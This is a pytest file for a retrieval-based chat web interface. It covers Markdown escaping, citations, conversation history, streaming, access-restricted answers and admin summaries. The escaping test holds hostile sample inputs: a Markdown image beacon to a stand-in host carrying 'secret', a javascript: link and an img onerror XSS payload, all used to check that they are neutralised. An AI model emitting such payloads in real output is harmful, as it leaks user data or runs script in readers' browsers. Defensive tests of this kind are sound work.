"""The web chat's logic without a browser: markup, conversation state, streaming, sign-in, admin data."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fakes import ScriptedGenerator, StubRetriever, corpus

from chat.results import NOT_FOUND_TEXT, Event, Question, Retrieval
from chat.rewrite import HeuristicRewriter
from chat.service import AnswerService, GeneratorSlot
from core.domain import Answer, Citation, Hit, Privacy, Timings, Usage, User
from core.errors import RetrievalError
from core.feedback import GeneratorStats
from core.index import DocumentStats, IndexStats
from core.prompt import Turn
from docduet.commands.ui import streamlit_argv
from ingest.last_run import read_last_run
from ui.admin_view import ago, feedback_rows, summary_text
from ui.markup import answer_markdown, citation_label, cost, escape_md, highlight, metric_badges, seconds
from ui.progress_bar import BarProgress
from ui.streaming import LiveTurn, Throttle, run_stream
from ui.turns import ChatTurn, history, passage, preferred, sign_in, turns, verdicts

UNESCAPED = re.compile(r"(?<!\\)[\[\]()!<>$`*_#|~:]")


def answer(
    name: str, text: str, *, sent: tuple[str, ...] = (), off: bool = False, withheld: int = 0, **kw: object
) -> Answer:
    return Answer(
        generator=name,
        text=text,
        citations=kw.pop("citations", ()),  # type: ignore[arg-type]
        timings=Timings(0.1, 0.84, 2.5),
        usage=Usage(120, 30, 0.00012 if off else 0.0),
        privacy=Privacy("http://llm" if off else "model.gguf", off, sent, withheld),
        **kw,  # type: ignore[arg-type]
    )


# --- markup ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "hostile",
    [
        "![pixel](http://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "costs $5 and $6",
        ":red[alarm] :material/warning:",
        "# Heading\n* item\n1. first",
        "`code` **bold** _it_ ~~gone~~ | table |",
    ],
)
def test_escape_md_leaves_no_markup_character_unescaped(hostile: str) -> None:
    escaped = escape_md(hostile)
    code_span = r"(?<!\\)`([^`]*)(?<!\\)`"  # web addresses become code: never linked
    assert all(UNESCAPED.search(part or "") is None for part in re.split(code_span, escaped)[::2]), escaped
    assert all(re.fullmatch(r"(https?://|www\.)\S+", c) for c in re.findall(code_span, escaped)), escaped
    restored = re.sub(code_span + r"|\\(.)", lambda m: m.group(1) or m.group(2), escaped)
    assert restored == hostile  # nothing lost


def test_answer_markdown_turns_markers_into_chips_and_escapes_the_rest() -> None:
    md = answer_markdown("Tuesday and Thursday [1]. See [note](x) [2][3].")
    assert ":blue-badge[1]" in md and ":blue-badge[2]:blue-badge[3]" in md
    assert "\\[note\\]\\(x\\)" in md
    without_chips = re.sub(r":blue-badge\[\d+\]", "", md)
    assert UNESCAPED.search(without_chips) is None


def test_highlight_marks_the_snippet_inside_the_passage() -> None:
    passage = "Office life. The anchor days are\nTuesday and Thursday. Desks are booked."
    md = highlight(passage, "The anchor days are Tuesday and Thursday.")
    assert md.startswith("Office life\\. :orange-background[The anchor days are\nTuesday")
    assert md.endswith("] Desks are booked\\.")


def test_highlight_keeps_context_around_the_snippet_and_shows_a_missing_one_alone() -> None:
    passage = "alpha " * 200 + "the needle sentence. " + "omega " * 200
    md = highlight(passage, "the needle sentence.", context=60)
    assert md.startswith("… alpha") and md.endswith("omega …")
    assert len(md) < 260
    assert highlight("unrelated text", "not there") == ":orange-background[not there]"


def test_citation_label_and_number_formats() -> None:
    c = Citation(2, "/docs/hb.md", "Employee handbook", "Holidays", 3, "s", 0.8)
    assert citation_label(c) == "\\[2\\] Employee handbook · Holidays · p\\. 3"  # escaped Markdown
    untitled = Citation(1, "/docs/notes.txt", "", "", None, "s", 0.8)
    assert citation_label(untitled) == "\\[1\\] notes\\.txt"
    assert (seconds(None), seconds(0.842), seconds(42.4)) == ("–", "0.84 s", "42 s")
    assert (cost(0.0), cost(0.000123), cost(3.5)) == ("$0", "$0.0001", "$3.50")


def test_metric_badges_say_what_left_the_building() -> None:
    local = metric_badges(answer("slm", "x"))
    assert "first token 0.84 s" in local and "total 2.50 s" in local and "120 + 30 tokens" in local
    assert ":green-badge[sent off\\-premises: no]" in local
    hosted = metric_badges(answer("llm", "x", off=True, withheld=1))
    assert ":orange-badge[sent off\\-premises: yes \\(1 source withheld\\)]" in hosted
    assert "2 sources withheld" in metric_badges(answer("llm", "x", off=True, withheld=2))
    assert "\\$0\\.0001" in hosted


def test_a_wait_in_line_for_the_local_model_gets_a_badge() -> None:
    waited = replace(answer("slm", "x"), timings=Timings(0.1, 30.2, 31.9, queue_s=28.6))
    assert ":orange-badge[waited 29 s for its turn]" in metric_badges(waited)
    assert "for its turn" not in metric_badges(answer("slm", "x"))  # no wait, no badge


# --- conversation state ----------------------------------------------------------------------


def test_sign_in_clears_the_conversation_only_when_the_user_changes() -> None:
    state: dict[str, object] = {}
    carol, alice = User("carol", ("employees",)), User("alice", ("employees", "hr"))
    assert sign_in(state, carol) is False
    turns(state).append(ChatTurn("q", "carol", ("slm", "llm")))
    verdicts(state)["k"] = "all_good"
    assert sign_in(state, carol) is False and len(turns(state)) == 1
    assert sign_in(state, alice) is True
    assert turns(state) == [] and verdicts(state) == {}


def test_history_carries_the_preferred_answer_without_markers() -> None:
    left, right = answer("slm", "Left says Tuesday [1]."), answer("llm", "Right says Thursday [2].")
    done = ChatTurn("Which days?", "carol", ("slm", "llm"), key="a", answers=(left, right))
    failed = ChatTurn("Broken?", "carol", ("slm", "llm"), key="b", status="failed", error="down")
    assert preferred(done, None) is left
    assert preferred(done, "best:llm") is right
    assert preferred(done, "right_better") is right  # a rating stored before N columns
    assert history([done, failed], {"a": "best:llm"}) == (
        Turn("user", "Which days?"),
        Turn("assistant", "Right says Thursday."),
    )
    assert history([done], {})[1] == Turn("assistant", "Left says Tuesday.")
    many = [ChatTurn(f"q{i}", None, ("slm", "llm"), answers=(left,)) for i in range(9)]
    assert [t.content for t in history(many, {}, max_turns=2) if t.role == "user"] == ["q7", "q8"]


def test_preferred_skips_errors_and_abstentions() -> None:
    broken = answer("slm", "", error="model crashed")
    abstained = answer("slm", "I don't know.", abstained=True)
    good = answer("llm", "Thursday.")
    assert preferred(ChatTurn("q", None, ("slm", "llm"), answers=(broken, good)), "best:slm") is good
    assert preferred(ChatTurn("q", None, ("slm", "llm"), answers=(abstained, good)), None) is good


def test_passage_resolves_numbers_through_what_was_sent(tmp_path: Path) -> None:
    chunks = corpus(tmp_path)
    hits = tuple(Hit(c, 1.0) for c in chunks)
    # The hosted model was not sent the confidential salary chunk: its [2] is the press release.
    hosted = answer("llm", "x", sent=(chunks[0].chunk_id, chunks[2].chunk_id), off=True, withheld=1)
    cited = Citation(2, chunks[2].source, "t", "", None, "s", 0.9)
    assert passage(hits, hosted, cited) == hits[2]
    assert passage(hits, hosted, Citation(3, "x", "t", "", None, "s", 0.9)) is None


# --- streaming --------------------------------------------------------------------------------


class RecordingView:
    def __init__(self) -> None:
        self.calls: list[tuple[str, str]] = []

    def retrieved(self, retrieval: Retrieval) -> None:
        self.calls.append(("retrieved", str(len(retrieval.hits))))

    def status(self, name: str, text: str) -> None:
        self.calls.append(("status", f"{name}: {text}"))

    def partial(self, name: str, text: str) -> None:
        self.calls.append(("partial", name))

    def finished(self, answer: Answer) -> None:
        self.calls.append(("finished", answer.generator))


def service(tmp_path: Path, llm: ScriptedGenerator | None = None) -> AnswerService:
    gens = [ScriptedGenerator("slm"), llm or ScriptedGenerator("llm", off_premises=True)]
    slots = [GeneratorSlot(g.name, g) for g in gens]
    return AnswerService(StubRetriever(corpus(tmp_path)), slots, HeuristicRewriter())


def test_run_stream_fills_the_turn_from_the_real_service(tmp_path: Path) -> None:
    live, view = LiveTurn(("slm", "llm")), RecordingView()
    carol = User("carol", ("employees",))
    run_stream(service(tmp_path), Question("Which are the anchor days?", carol), live, view)
    assert view.calls[0] == ("retrieved", "1")
    assert {c for c in view.calls if c[0] == "finished"} == {("finished", "slm"), ("finished", "llm")}
    assert ("partial", "slm") in view.calls
    assert ("status", "slm: Reading 1 passages…") in view.calls  # before its first words
    assert view.calls.index(("status", "slm: Reading 1 passages…")) < view.calls.index(("partial", "slm"))
    assert [a.generator for a in live.ordered_answers()] == ["slm", "llm"]
    assert live.texts["slm"].strip().endswith("[1].")
    assert set(live.first_seen_s) == {"slm", "llm"}
    assert live.ordered_answers()[0].citations[0].source.endswith("employee-handbook.md")


def test_run_stream_keeps_what_arrived_when_the_stream_breaks() -> None:
    retrieval = Retrieval("q", (), 0.01)

    class Breaking:
        def stream(self, question: Question, names: object) -> object:
            yield Event("", "retrieval", retrieval=retrieval)
            yield Event("slm", "token", text="Half an ")
            raise RetrievalError("index went away")

    live = LiveTurn(("slm", "llm"))
    with pytest.raises(RetrievalError):
        run_stream(Breaking(), Question("q"), live, RecordingView())  # type: ignore[arg-type]
    assert live.retrieval is retrieval and live.texts == {"slm": "Half an "}


def test_run_stream_closes_the_stream_when_the_page_stops_drawing() -> None:
    retrieval = Retrieval("q", (), 0.01)
    closed: list[bool] = []

    class Endless:
        def stream(self, question: Question, names: object) -> object:
            try:
                yield Event("", "retrieval", retrieval=retrieval)
                for _ in range(1000):
                    yield Event("slm", "token", text="more ")
            finally:
                closed.append(True)

    class StoppedView(RecordingView):
        def partial(self, name: str, text: str) -> None:
            raise KeyboardInterrupt("Streamlit stops a script like this on a rerun")

    with pytest.raises(KeyboardInterrupt):
        run_stream(Endless(), Question("q"), LiveTurn(("slm",)), StoppedView())  # type: ignore[arg-type]
    assert closed == [True]


def test_throttle_limits_redraws_per_column() -> None:
    now = [0.0]
    throttle = Throttle(0.1, clock=lambda: now[0])
    assert throttle.ready("slm") and throttle.ready("llm")
    assert not throttle.ready("slm")
    now[0] = 0.11
    assert throttle.ready("slm")


def test_not_found_for_a_user_who_may_not_read_the_source(tmp_path: Path) -> None:
    live = LiveTurn(("slm", "llm"))
    carol = User("carol", ("employees",))
    run_stream(service(tmp_path), Question("salary band midpoint", carol), live, RecordingView())
    assert live.retrieval is not None and live.retrieval.hits == ()
    assert all(a.text == NOT_FOUND_TEXT and not a.citations for a in live.ordered_answers())


# --- sign-in, progress, admin data, command ----------------------------------------------------


def test_bar_progress_moves_the_bar_per_file() -> None:
    moves: list[tuple[float, str | None]] = []

    class Bar:
        def progress(self, value: float, text: str | None = None) -> None:
            moves.append((value, text))

    sink = BarProgress(Bar())
    sink.start(2, "ingesting")
    sink.advance("/docs/a.md", "added")
    sink.advance("/docs/b.pdf", "failed")
    sink.finish()
    assert [v for v, _ in moves] == [0.0, 0.5, 1.0, 1.0]
    assert moves[2][1] == "ingesting: 2/2 · failed: b.pdf"
    assert sink.outcomes == {"added": 1, "failed": 1}


def test_index_stats_facets_count_documents_and_chunks() -> None:
    stats = IndexStats(
        "C",
        (
            DocumentStats("/a.md", "md", ("employees",), "internal", 4),
            DocumentStats("/b.md", "md", ("employees", "hr"), "confidential", 2),
            DocumentStats("/c.pdf", "pdf", ("public",), "public", 1),
        ),
    )
    assert stats.chunks == 7
    assert stats.by("doc_type") == {"md": (2, 6), "pdf": (1, 1)}
    assert stats.by("group") == {"employees": (2, 6), "hr": (1, 2), "public": (1, 1)}
    assert stats.by("sensitivity")["confidential"] == (1, 2)


def test_read_last_run(tmp_path: Path) -> None:
    assert read_last_run(tmp_path) is None
    path = tmp_path / "ingest" / "last-run.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps({"added": ["/a"], "failed": [{"source": "/b", "reason": "encrypted"}]}))
    run = read_last_run(tmp_path)
    assert run is not None and run.failed == [{"source": "/b", "reason": "encrypted"}]
    assert datetime.now(UTC) - run.finished < timedelta(minutes=1)
    path.write_text("{broken")
    assert read_last_run(tmp_path) is None


def test_admin_summaries() -> None:
    now = datetime(2025, 5, 1, 12, 0, tzinfo=UTC)
    assert ago(now - timedelta(seconds=5), now) == "just now"
    assert ago(now - timedelta(minutes=5), now) == "5 min ago"
    assert ago(now - timedelta(hours=3), now) == "3 h ago"
    assert ago(now - timedelta(days=2), now) == "2 days ago"
    text = summary_text({"added": ["/a"], "unchanged": ["/b", "/c"], "failed": [{}], "chunks": 4,
                         "total_chunks": 9, "seconds": 1.25})  # fmt: skip
    assert text.startswith("1 added · 0 updated · 2 unchanged · 0 deleted · 1 failed — 4 chunks")
    rows = feedback_rows([GeneratorStats("slm", 4, 1, 3, 2.0, 0.0)], {"slm": "Small local model"})
    assert rows == [{"model": "Small local model", "rated answers": 4, "win rate": 0.25,
                     "good or better": 0.75, "mean total time": "2.00 s", "total cost": "$0"}]  # fmt: skip


def test_streamlit_argv_is_headless_without_telemetry() -> None:
    argv = streamlit_argv("127.0.0.1", 8600, python="/py")
    assert argv[:4] == ["/py", "-m", "streamlit", "run"]
    warm = streamlit_argv("127.0.0.1", 8600, python="/py", warm=True)
    assert warm[:4] == ["/py", "-m", "docduet.ui_server", "run"] and warm[4:] == argv[4:]
    assert Path(argv[4]).name == "app.py" and Path(argv[4]).is_file()
    for flag in (
        "--server.address=127.0.0.1",
        "--server.port=8600",
        "--server.headless=true",
        "--browser.gatherUsageStats=false",
        "--server.fileWatcherType=none",
    ):
        assert flag in argv
